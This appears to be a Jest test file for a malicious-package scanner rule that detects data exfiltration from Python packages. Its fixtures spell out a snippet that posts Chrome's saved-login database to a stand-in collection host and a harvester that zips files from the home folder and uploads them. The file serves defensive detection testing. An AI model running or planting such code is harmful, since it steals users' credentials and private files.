import { describe, expect, it } from '@jest/globals';
import { pyExfiltration } from '../../../src/analysis/rules/py-exfiltration.js';
import { gating, run, runOn } from './helpers.js';

describe('py-exfiltration', () => {
  it('flags the technique in a fixture package', async () => {
    const findings = await run(pyExfiltration, 'py-exfiltration/positive');
    expect(findings.length).toBeGreaterThan(0);
    expect(findings[0].rule).toBe('py-exfiltration');
    expect(findings[0].severity).toBe('high');
    expect(findings[0].message.length).toBeGreaterThan(20);
    expect(findings[0].line).toBeGreaterThan(0);
  });

  it('stays below the gate on the legitimate look-alike', async () => {
    expect(gating(await run(pyExfiltration, 'py-exfiltration/negative'))).toEqual([]);
  });

  it('flags credential stores read and posted from an imported module', async () => {
    const findings = await runOn(pyExfiltration, 'pypi', {
      'demo/__init__.py': [
        'import os, requests',
        "state = os.path.join(os.getenv('LOCALAPPDATA'), 'Google', 'Chrome', 'User Data', 'Local State')",
        "logins = os.path.join(os.getenv('LOCALAPPDATA'), 'Google', 'Chrome', 'User Data', 'Default', 'Login Data')",
        "requests.post('https://collect.example.invalid', files={'a': open(logins, 'rb')})",
      ].join('\n'),
    });
    expect(findings[0].severity).toBe('critical');
  });

  it('flags a harvester that walks the home folder, zips files and uploads them when called', async () => {
    const findings = await runOn(pyExfiltration, 'pypi', {
      'demo-1.0/setup.py': "from setuptools import setup\nsetup(name='demo')\n",
      'demo-1.0/demo/sync.py': [
        'import os, zipfile, aiohttp',
        'def collect(exts):',
        '    out = []',
        "    for root, _, files in os.walk(os.path.expanduser('~')):",
        '        out += [os.path.join(root, f) for f in files if f.endswith(exts)]',
        '    return out',
        'async def upload(paths, url):',
        "    with zipfile.ZipFile('/tmp/a.zip', 'w') as z:",
        '        for p in paths: z.write(p)',
        '    async with aiohttp.ClientSession() as session:',
        "        await session.post(url, data={'file': open('/tmp/a.zip', 'rb')})",
      ].join('\n'),
    });
    expect(gating(findings)).toHaveLength(1);
    expect(findings[0].message).toMatch(/home folder/);
  });

  it('keeps a backup tool that archives a chosen folder and uploads it below the gate', async () => {
    const findings = await runOn(pyExfiltration, 'pypi', {
      'demo-1.0/setup.py': "from setuptools import setup\nsetup(name='demo')\n",
      'demo-1.0/demo/backup.py': [
        'import os, zipfile, requests',
        'def backup(folder, url):',
        "    with zipfile.ZipFile('/tmp/b.zip', 'w') as z:",
        '        for root, _, files in os.walk(folder):',
        '            for f in files: z.write(os.path.join(root, f))',
        "    requests.post(url, files={'f': open('/tmp/b.zip', 'rb')})",
      ].join('\n'),
    });
    expect(gating(findings)).toEqual([]);
  });
});
